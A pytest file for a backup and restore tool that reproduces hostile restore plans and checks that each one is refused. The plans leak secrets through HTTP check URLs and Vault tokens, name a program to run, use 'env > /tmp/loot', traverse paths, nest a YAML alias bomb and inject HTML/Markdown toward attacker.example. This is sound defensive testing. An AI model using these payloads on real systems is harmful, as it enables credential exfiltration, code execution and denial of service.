"""Hostile plans and hostile text (docs/threat-model.md, "A malicious or careless plan author"): a plan cannot
read a secret out of drtool's environment, name a program to run, hand drtool's credentials to a target or
name a file outside the report folder; YAML aliases are refused; a report shows backup data as text.

Each attack is reproduced as it would be written, then refused with the one-line error a user sees.
"""

from __future__ import annotations

import http.server
import json
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from drtool_lab.components.minio import MinioServer
from markdown_it import MarkdownIt

from drtool.config import load_settings
from drtool.errors import DrtoolError, UsageError
from drtool.kube.client import KubeClient
from drtool.kube.settings import Connection
from drtool.plans.checks import run_checks
from drtool.plans.executor import Executor
from drtool.plans.loader import LoadedPlan, load_plan, read_values
from drtool.plans.notify import webhook_for
from drtool.plans.results import RunResult, StepResult
from drtool.plans.schema import Plan
from drtool.plans.validate import check_file
from drtool.plugin.manager import get_plugin, load_plugins
from drtool.repo.repository import Repository
from drtool.report.markdown import to_markdown
from drtool.restore import run_restore
from tests.fixtures.core import Cli, assert_clean_error
from tests.fixtures.kube import KubeLab
from tests.fixtures.manifests import helm_template, one, parse, render
from tests.plans_rehearsal import test_plan_runs
from tests.plans_rehearsal.test_plan_runs import files_step, restored, run_id_in, write_plan
from tests.plans_rehearsal.test_platform_checks import backup_of
from tests.plugins.test_hostile_restore import forge

PASSPHRASE_VALUE = "store-passphrase-7f3a9c"  # what drtool unlocks the store with, in its environment
AWS_VALUE = "aws-secret-key-55e1d0"
# its fixtures: a store with a files backup, and drtool run as a command with it
run_cli, site, store = test_plan_runs.run_cli, test_plan_runs.site, test_plan_runs.store
receiver = test_plan_runs.receiver  # a real HTTP server that records the JSON bodies POSTed to it
ENV = {"DRTOOL_PASSPHRASE": PASSPHRASE_VALUE, "AWS_SECRET_ACCESS_KEY": AWS_VALUE, "HOME": "/root"}


def write(tmp_path: Path, body: str, name: str = "plan.yaml") -> Path:
    path = tmp_path / name
    path.write_text(body)
    return path


def errors(loaded: LoadedPlan) -> list[str]:
    return [f"{p.line}: {p.message} ({p.hint})" for p in loaded.errors]


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The plan author's own endpoint (a real HTTP server on loopback): the URL, and the paths it was sent."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


# --- variables -------------------------------------------------------------------------------------------


def test_a_plan_cannot_send_drtools_passphrase_to_its_http_check(
    tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    url, seen = listener
    leak = f"{url}/healthz?p=${{DRTOOL_PASSPHRASE}}&k=${{AWS_SECRET_ACCESS_KEY}}"
    body = f"name: exfil\nsteps: [{{id: a, uses: files}}]\nchecks:\n  - {{type: http, id: up, url: '{leak}'}}\n"
    loaded = load_plan(write(tmp_path, body), env=ENV)
    found = errors(loaded)
    assert any("${DRTOOL_PASSPHRASE} is not a declared variable" in e and "secret-bearing" in e for e in found)
    assert any("${AWS_SECRET_ACCESS_KEY} is not a declared variable" in e for e in found)
    assert PASSPHRASE_VALUE not in str(loaded.data) and AWS_VALUE not in str(loaded.data)
    with pytest.raises(UsageError) as err:
        run_checks(loaded.require())
    assert "is not a declared variable" in err.value.one_line() and PASSPHRASE_VALUE not in err.value.one_line()
    assert seen == []


def test_secret_bearing_names_cannot_be_declared(tmp_path: Path) -> None:
    for name in ("DRTOOL_PASSPHRASE", "AWS_ACCESS_KEY_ID", "VAULT_TOKEN", "DB_PASSWORD", "SIGNING_KEY", "GH_TOKEN"):
        body = f"name: t\nvariables: {{{name}: innocent}}\nsteps: [{{id: a, uses: files}}]\n"
        body += f"target: {{files: {{path: '${{{name}}}'}}}}\n"
        loaded = load_plan(write(tmp_path, body), env={name: "s3cr3t"})
        assert any("secret-bearing name" in e for e in errors(loaded)), (name, errors(loaded))
        assert "s3cr3t" not in str(loaded.data)


def test_only_declared_variables_are_read_and_values_files_cannot_add_any(tmp_path: Path) -> None:
    body = (
        "name: t\nvariables:\n  TARGET_DIR: where the files go\n  DEPTH: {description: d, default: 3}\n"
        "parallelism: ${DEPTH}\nsteps: [{id: a, uses: files}]\ntarget: {files: {path: '${TARGET_DIR}/${HOME}'}}\n"
    )
    values = read_values(write(tmp_path, "TARGET_DIR: /restore\nSTRAY: x\n", "values.yaml"))
    loaded = load_plan(write(tmp_path, body), values=values, env=ENV)
    assert loaded.data["target"]["files"]["path"] == "/restore/${HOME}"  # HOME is not declared: never read
    assert loaded.data["parallelism"] == 3
    assert any("${HOME} is not a declared variable" in e for e in errors(loaded))
    assert [p.message for p in loaded.problems if p.severity == "warning"] == [
        "the values file sets STRAY, which this plan does not declare"
    ]


def test_cli_validate_names_the_undeclared_variable_and_never_its_value(cli: Cli, tmp_path: Path) -> None:
    body = "name: t\nsteps: [{id: a, uses: files}]\ntarget: {files: {path: '${DRTOOL_PASSPHRASE}'}}\n"
    proc = cli("plan", "validate", str(write(tmp_path, body)), env={"DRTOOL_PASSPHRASE": PASSPHRASE_VALUE})
    assert proc.returncode == 2 and "${DRTOOL_PASSPHRASE} is not a declared variable" in proc.stdout + proc.stderr
    assert PASSPHRASE_VALUE not in proc.stdout + proc.stderr


# --- programs, credentials, names -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "where",
    [
        "steps: [{id: a, uses: etcd, with: {etcdutl: /tmp/evil}}]",
        "steps: [{id: a, uses: etcd}]\ntarget: {etcd: {data_dir: /x, etcdutl: /tmp/evil}}",
        "steps: [{id: a, uses: git, target: {git_command: /tmp/evil}}]",
    ],
)
def test_plans_name_no_program(tmp_path: Path, where: str) -> None:
    loaded = load_plan(write(tmp_path, f"name: t\n{where}\n"), env={})
    assert any("would name a program to run" in e for e in errors(loaded)), errors(loaded)


def test_the_etcd_restore_runs_no_program_an_option_names(repo: Repository, tmp_path: Path) -> None:
    """Before: ``etcdutl`` from the options was executed (here it would have left a marker file)."""
    marker = tmp_path / "ran"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\n")
    evil.chmod(0o755)
    manifest = forge(repo, "etcd", {"snapshot.db": (b"not a snapshot", {})}, {"sha256": "0" * 64})
    target = {"data_dir": str(tmp_path / "etcd-data"), "start": False}
    with pytest.raises(UsageError) as err:
        run_restore(repo, manifest, get_plugin("etcd"), target, options={"etcdutl": str(evil)})
    assert "DRTOOL_ETCDUTL" in err.value.one_line()
    assert not marker.exists() and not (tmp_path / "etcd-data").exists()


def test_env_references_never_hand_drtools_credentials_to_a_target(tmp_path: Path) -> None:
    target = "{address: 'https://vault.attacker.example', token_env: DRTOOL_PASSPHRASE}"
    body = f"name: t\nsteps: [{{id: a, uses: vault, target: {target}}}]\n"
    loaded = load_plan(write(tmp_path, body), env={})
    assert any("token_env (DRTOOL_PASSPHRASE) would hand drtool's own" in e for e in errors(loaded)), errors(loaded)
    credentials = "{r.example: {user: u, password_env: AWS_SECRET_ACCESS_KEY}}"
    body = f"name: t\nsteps: [{{id: a, uses: images}}]\ntarget: {{images: {{credentials: {credentials}}}}}\n"
    assert any("AWS_SECRET_ACCESS_KEY" in e for e in errors(load_plan(write(tmp_path, body), env={})))


def test_http_checks_carry_no_credentials(tmp_path: Path) -> None:
    for url in ("https://admin:pw@api.example/healthz", "https://api.example/healthz?access_token=abc"):
        body = f"name: t\nsteps: [{{id: a, uses: files}}]\nchecks: [{{type: http, id: c, url: '{url}'}}]\n"
        assert any("the check's URL carries" in e for e in errors(load_plan(write(tmp_path, body), env={}))), url


def test_a_plan_name_cannot_name_a_file_outside_the_report_folder(tmp_path: Path) -> None:
    loaded = load_plan(write(tmp_path, "name: ../../etc/cron.d/x\nsteps: [{id: a, uses: files}]\n"), env={})
    assert any("it names report files" in e for e in errors(loaded)), errors(loaded)


# --- YAML aliases ------------------------------------------------------------------------------------------

BOMB = "".join(
    f"{k}: &{k} [{', '.join([f'*{p}'] * 9) if p else ', '.join(['lol'] * 9)}]\n"
    for p, k in zip(["", "a", "b", "c", "d", "e"], ["a", "b", "c", "d", "e", "f"], strict=True)
)


def test_a_small_alias_bomb_is_refused_at_once(tmp_path: Path, cli: Cli) -> None:
    plan = "name: bomb\nsteps: [{id: a, uses: files}]\n" + BOMB
    assert len(plan) < 400  # 9^6 = 531441 leaves once expanded
    path = write(tmp_path, plan)
    started = time.monotonic()
    loaded = load_plan(path, env={})
    assert time.monotonic() - started < 1
    assert [(p.line, p.message) for p in loaded.errors] == [
        (4, "not valid YAML: found alias *a: aliases are not allowed (write the value out)")
    ]
    proc = cli("plan", "validate", str(path))
    assert_clean_error(proc, 2, "plan(s) invalid")
    assert f"{path}:4: error: not valid YAML: found alias *a: aliases are not allowed" in proc.stdout


def test_config_and_values_files_refuse_aliases_too(tmp_path: Path) -> None:
    config = write(tmp_path, "store: /s\nsources:\n  files: &f {paths: [/etc]}\n  other: *f\n", "config.yaml")
    with pytest.raises(UsageError, match="line 4 is not valid YAML: found alias"):
        load_settings(config=str(config))
    with pytest.raises(DrtoolError, match="found alias"):
        read_values(write(tmp_path, "A: &x 1\nB: *x\n", "values.yaml"))


# --- the Markdown report -----------------------------------------------------------------------------------

HOSTILE = "evil`](https://attacker.example/x) ![t](https://attacker.example/p.png) <img src=x onerror=alert(1)> @admin"


def hostile_report() -> dict[str, Any]:
    finding = {
        "status": "inside",
        "address": f"registry.infra:5000`{HOSTILE}",
        "purpose": HOSTILE,
        "found_by": ["kubernetes"],
        "evidence": f"[click](https://attacker.example/e) {HOSTILE}",
        "detail": HOSTILE,
        "hint": "https://attacker.example/fix www.attacker.example",
        "needed": True,
    }
    step = {"id": "cluster", "uses": "kubernetes", "status": "failed", "started_s": 0, "finished_s": 1}
    step |= {"attempts": 1, "error": HOSTILE, "refused_connections": [f"10.0.0.1:443 {HOSTILE}"]}
    return {
        "kind": "rehearsal",
        "plan": {"name": "p", "path": "plan.yaml"},
        "backup": {"id": "b", "created": HOSTILE},
        "run": {"id": "r", "target": HOSTILE, "steps": [step]},
        "checks": [{"step": "cluster", "name": "c", "ok": False, "detail": HOSTILE}],
        "independence": {"counts": {"inside": 1}, "findings": [finding], "domain": {"facts": {"nodes": [HOSTILE]}}},
    }


def test_backup_data_in_the_markdown_report_renders_as_text() -> None:
    markdown = to_markdown(hostile_report())
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    assert "registry.infra:5000`evil`" in html.replace("&quot;", '"')  # the address, whole, in one code span
    assert html.count("attacker.example/x") >= 5  # every copy shown as text


# --- issue 25, attack 5: plans are data, not programs --------------------------------------------------------


def test_a_plan_reads_no_environment_variable_by_its_own_name(tmp_path: Path, listener: tuple[str, list[str]]) -> None:
    """Before: declaring MYSQL_PWD and HTTPS_PROXY (names no denylist catches) sent their values in the URL."""
    url, seen = listener
    body = (
        "name: t\nvariables: {MYSQL_PWD: innocent, HTTPS_PROXY: innocent, REGION: where}\n"
        f"steps: [{{id: a, uses: files}}]\nchecks:\n  - {{type: http, id: c, url: '{url}/h?a=${{MYSQL_PWD}}"
        "&b=${HTTPS_PROXY}&r=${REGION}'}\n"
    )
    env = {"MYSQL_PWD": "mysql-pw-31d9", "HTTPS_PROXY": "http://user:proxy-pw-8c2e@proxy", "DRTOOL_VAR_REGION": "eu"}
    loaded = load_plan(write(tmp_path, body), env=env)
    assert sorted(loaded.unset) == ["HTTPS_PROXY", "MYSQL_PWD"]  # set nowhere a plan may read: left as written
    run_checks(loaded.require())
    assert len(seen) == 1 and "r=eu" in seen[0]  # the explicit prefix is read
    assert "mysql-pw-31d9" not in seen[0] and "proxy-pw-8c2e" not in seen[0], seen
    values = read_values(write(tmp_path, "MYSQL_PWD: from-the-values-file\n", "values.yaml"))
    assert "from-the-values-file" in str(load_plan(tmp_path / "plan.yaml", values=values, env=env).data)


def test_a_token_file_never_names_drtools_secrets_or_a_file_outside_the_allowed_folders(
    repo: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: ``token_file`` named the passphrase file and a Vault of the plan's choosing got it as
    X-Vault-Token. Each refusal comes before any step runs: the server records no request."""
    tokens: list[str | None] = []

    class Vault(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            tokens.append(self.headers.get("X-Vault-Token"))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"initialized": true, "sealed": false, "standby": false}')

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Vault)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    secrets_dir, allowed = tmp_path / "secrets", tmp_path / "allowed"
    secrets_dir.mkdir(), allowed.mkdir()
    files = {name: secrets_dir / name for name in ("passphrase", "keyfile", "aws-credentials")}
    for name, path in files.items():
        path.write_text(f"{PASSPHRASE_VALUE}-{name}\n")
    (allowed / "passphrase-link").symlink_to(files["passphrase"])
    (tmp_path / "elsewhere").write_text("some other file\n")
    (allowed / "token").write_text("the-operators-token\n")
    monkeypatch.setenv("DRTOOL_PASSPHRASE_FILE", str(files["passphrase"]))
    monkeypatch.setenv("DRTOOL_KEYFILE", str(files["keyfile"]))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(files["aws-credentials"]))
    monkeypatch.setenv("DRTOOL_FILE_FOLDERS", str(allowed))
    manifest = forge(repo, "vault", {"kv/secret.ndjson": (b"", {})})
    address = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        for path, why in [
            (files["passphrase"], "one of drtool's own secrets"),
            (files["keyfile"], "one of drtool's own secrets"),
            (files["aws-credentials"], "one of drtool's own secrets"),
            (allowed / "passphrase-link", "one of drtool's own secrets"),  # a link is judged by what it names
            (tmp_path / "elsewhere", "outside the folders DRTOOL_FILE_FOLDERS allows"),
        ]:
            target = f"{{address: '{address}', token_file: '{path}'}}"
            body = f"name: t\nsteps: [{{id: kv, uses: vault, with: {{mode: kv}}, target: {target}}}]\n"
            with pytest.raises(UsageError) as err:
                Executor(load_plan(write(tmp_path, body), env={}), repo, manifest).execute()
            line = err.value.one_line()
            assert f"steps[0].target.token_file names {path}, {why}" in line and "\n" not in line, line
            assert PASSPHRASE_VALUE not in line
        assert tokens == []  # nothing was sent anywhere
        target = f"{{address: '{address}', token_file: '{allowed / 'token'}'}}"
        body = f"name: t\nsteps: [{{id: kv, uses: vault, with: {{mode: kv}}, target: {target}}}]\n"
        Executor(load_plan(write(tmp_path, body), env={}), repo, manifest).execute()  # what the operator allows
        assert tokens and set(tokens) == {"the-operators-token"}
    finally:
        server.shutdown()
        server.server_close()


def test_the_training_check_names_no_program_for_the_restoring_machine(tmp_path: Path) -> None:
    """Before: ``command`` was run on drtool's machine, with drtool's whole environment (a plan wrote the
    passphrase, AWS_SECRET_ACCESS_KEY and `uid=0` to a file). The check is the checkpoints plugin's: its model refuses
    it when the plan is validated, which every run does first."""
    check = "{type: training-resumes, id: t, step: ckpt, folder: mlp, command: [sh, -c, 'env > /tmp/loot']}"
    body = f"name: t\nsteps: [{{id: ckpt, uses: checkpoints}}]\nchecks:\n  - {check}\n"
    loaded = check_file(write(tmp_path, body), load_plugins())
    assert errors(loaded) == [
        "4: checks[0] (t): `command` would name a program to run on the restoring machine: the check runs the trainer "
        "as a Job in the restored cluster (`trainer: {image: ..., command: [...], args: [...]}`, docs/plans.md) ()"
    ]


# what the trainer's containers run: they write the environment they received into the checkpoint store,
# then train (the lab trainer, by the protocol of docs/plans.md)
ENV_DUMP = (
    "import json, os, sys, runpy, boto3; loc = json.loads(os.environ['DRTOOL_CHECKPOINTS']); "
    "bucket, _, prefix = loc['url'].removeprefix('s3://').partition('/'); "
    "boto3.client('s3', endpoint_url=loc['endpoint_url']).put_object(Bucket=bucket, "
    "Key=f'{prefix}/received/{sys.argv[1]}.json', Body=json.dumps({'env': dict(os.environ), 'uid': os.getuid()})); "
    "sys.argv = ['trainer', *sys.argv[1:]]; runpy.run_module('drtool_lab.trainer', run_name='__main__')"
)


def test_the_trainer_runs_as_a_job_and_receives_nothing_of_drtools_environment(
    kube_jobs: KubeLab, minio: MinioServer, bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The check creates a Job in the restored cluster (the real Job controller makes its pod); the lab's node
    runs the pod's containers; each dumps the environment it received into the checkpoint store. Before: the
    trainer was a local child of drtool with drtool's environment (``{**os.environ, ...}``)."""
    from drtool_lab.node import LabNode  # new with the fix: imported here so the file runs on the code before it

    location = {"url": f"s3://{bucket}/runs", "endpoint_url": minio.api_url}
    store_keys = {k: v for k, v in minio.env().items() if k != "AWS_ENDPOINT_URL"}  # the cluster's, for the trainer
    trained = subprocess.run(
        [sys.executable, "-m", "drtool_lab.trainer", "train", "--until", "20", "--every", "10"],
        env={"DRTOOL_CHECKPOINTS": json.dumps(location), "DRTOOL_CHECKPOINTS_FOLDER": "mlp", **store_keys},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert trained.returncode == 0, trained.stderr
    kube = KubeClient(Connection.from_mapping({"kubeconfig": kube_jobs.kubeconfig}))
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "checkpoint-store"}, "stringData": store_keys}
    kube.request("POST", "/api/v1/namespaces/default/secrets", body=json.dumps(secret).encode(), ok=(201,))
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "default"}}
    kube.request("POST", "/api/v1/namespaces/default/serviceaccounts", body=json.dumps(account).encode(), ok=(201, 409))
    passphrase_file = tmp_path / "passphrase"
    passphrase_file.write_text(PASSPHRASE_VALUE)
    for name, value in {**ENV, "DRTOOL_PASSPHRASE_FILE": str(passphrase_file), "DRTOOL_KEYFILE": "/k"}.items():
        monkeypatch.setenv(name, value)  # drtool's own secrets, in the process that runs the check
    trainer = {"image": "drtool", "command": ["python", "-c", ENV_DUMP], "env_from_secret": "checkpoint-store"}
    check = {
        "type": "training-resumes",
        "id": "t",
        "step": "ckpt",
        "folder": "mlp",
        "trainer": trainer,
        "timeout": "2m",
    }
    plan = Plan.model_validate({
        "name": "t", "steps": [{"id": "ckpt", "uses": "checkpoints"}], "checks": [check],
        "target": {"checkpoints": location, "kubernetes": {"kubeconfig": kube_jobs.kubeconfig}},
    })  # fmt: skip
    node, stop = LabNode(kube), threading.Event()
    threading.Thread(target=node.serve, args=(stop,), daemon=True).start()
    try:
        (result,) = run_checks(plan, {}, backup_of({"mlp/step-000010": 1.0, "mlp/step-000020": 2.0}, []))
    finally:
        stop.set()
    assert result.ok, result.detail
    assert result.detail.startswith("resumed from step 20, the last complete checkpoint") and result.facts["job"]
    expected = {"DRTOOL_CHECKPOINTS", "DRTOOL_CHECKPOINTS_FOLDER", "DRTOOL_CHECKPOINTS_URL", *store_keys}
    for container in ("resume", "reference"):
        body = minio.client().get_object(Bucket=bucket, Key=f"runs/received/{container}.json")["Body"].read()
        received = json.loads(body)
        assert set(received["env"]) - {"LC_CTYPE"} == expected, container  # the pod's env, and nothing else
        assert PASSPHRASE_VALUE not in body.decode() and AWS_VALUE not in body.decode()
        assert json.loads(received["env"]["DRTOOL_CHECKPOINTS"]) == location
    jobs = kube.get("/apis/batch/v1/namespaces/default/jobs")["items"]
    assert not [j for j in jobs if not j["metadata"].get("deletionTimestamp")]  # the Job is deleted either way


# --- issue 25, attack 7: webhooks, resumed runs -----------------------------------------------------------


def test_a_webhook_goes_only_where_the_operator_allows_and_carries_ids_and_statuses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, receiver: test_plan_runs.Receiver, caplog: pytest.LogCaptureFixture
) -> None:
    """Before: the plan's notify.webhook was used as it was (a blind SSRF from inside the recovering network),
    and ``step.failed`` carried the step's error, which quoted a target path and a variable's value."""
    url = receiver.url  # http://127.0.0.1:PORT/hook
    monkeypatch.delenv("DRTOOL_WEBHOOK", raising=False)
    monkeypatch.delenv("DRTOOL_WEBHOOK_ALLOW", raising=False)
    plan = load_plan(write(tmp_path, f"name: t\nsteps: [{{id: a, uses: files}}]\nnotify: {{webhook: '{url}'}}\n"))
    run = RunResult("run-1", plan.require(), "backup-1", "2026-12-05T00:00:00Z")
    step = run.steps["a"] = StepResult("a", "files", [], status="failed", attempts=2)
    step.error = "cannot write /srv/restore/secret-target: token=value-of-a-variable"
    assert webhook_for(plan.require(), "restore") is None
    assert caplog.messages == ["notify.webhook is not listed in DRTOOL_WEBHOOK_ALLOW: this run sends no notifications"]
    for near_miss in (f"{url}/deeper", url.replace("127.0.0.1", "127.0.0.1.example")):
        monkeypatch.setenv("DRTOOL_WEBHOOK_ALLOW", near_miss)
        assert webhook_for(plan.require(), "restore") is None
    monkeypatch.setenv("DRTOOL_WEBHOOK_ALLOW", f"https://chat.example,{url.rsplit('/', 1)[0]}")
    hook = webhook_for(plan.require(), "restore")
    assert hook is not None
    hook.event("step.failed", run, step, 12.0)
    hook.close()
    (event,) = receiver.events
    assert event["step"] == {"id": "a", "uses": "files", "status": "failed", "attempts": 2}
    assert "/srv/restore" not in json.dumps(event) and "value-of-a-variable" not in json.dumps(event)
    assert event["text"].startswith("drtool restore run-1 (plan t) step a failed (`drtool runs show run-1` says why)")


def test_an_edited_plan_is_approved_again_not_resumed(run_cli: Cli, tmp_path: Path) -> None:
    """Before: `--resume RUN --approve keys` ran the gated step as the plan file now said, not as it was when
    the run stopped for approval: the edit (here: where the keys go) inherited the run's approvals."""
    into = tmp_path / "restored"
    plan = write_plan(tmp_path, files_step("keys", into, approval=True) + files_step("other", into))
    proc = run_cli("restore", "--plan", str(plan))
    assert proc.returncode == 11, proc.stderr
    run_id = run_id_in(proc.stderr)
    plan.write_text(plan.read_text().replace(str(into / "keys"), str(tmp_path / "elsewhere")))
    resumed = run_cli("restore", "--resume", run_id, "--approve", "keys")
    assert_clean_error(resumed, 2, f"plan {plan} changed since run {run_id} started", "approve its gated steps again")
    assert "its approvals do not carry over to an edited plan" in resumed.stderr
    assert not (tmp_path / "elsewhere").exists() and restored(into, "keys") is None
    again = run_cli("restore", "--plan", str(plan), "--approve", "keys")  # a new run, approved again
    assert again.returncode == 0, again.stderr
    assert (tmp_path / "elsewhere").exists()


# --- issue 25, attack 7: the restore role -----------------------------------------------------------------


def test_the_default_restore_role_names_its_resources_and_cluster_admin_is_opt_in(tmp_path: Path) -> None:
    """Before: the chart and the base created drtool-restore with create/patch on `*` in every group (every
    subresource too: pods/exec, serviceaccounts/token, nodes/proxy) unless the operator changed it."""
    for docs in (parse(helm_template()), render("base")):
        role = one(docs, "ClusterRole", "drtool-restore")
        for rule in role["rules"]:
            assert "*" not in rule.get("apiGroups", []), rule
            assert not [r for r in rule.get("resources", []) if "*" in r], rule
            assert not {"escalate", "bind", "impersonate", "delete", "*"} & set(rule["verbs"]), rule
        resources = {r for rule in role["rules"] for r in rule.get("resources", [])}
        assert not {"pods/exec", "pods/attach", "serviceaccounts/token", "nodes/proxy"} & resources
        assert {"secrets", "clusterroles", "customresourcedefinitions", "clusterqueues/status"} <= resources
    admin_values = tmp_path / "admin.yaml"
    admin_values.write_text("restore: {clusterAdmin: true}\n")
    admin = one(parse(helm_template(str(admin_values))), "ClusterRole", "drtool-restore")
    everything = ["get", "list", "watch", "create", "update", "patch"]
    assert admin["rules"][0] == {"apiGroups": ["*"], "resources": ["*"], "verbs": everything}
    assert one(render("overlays/restore-cluster-admin"), "ClusterRole", "drtool-restore")["rules"] == admin["rules"]
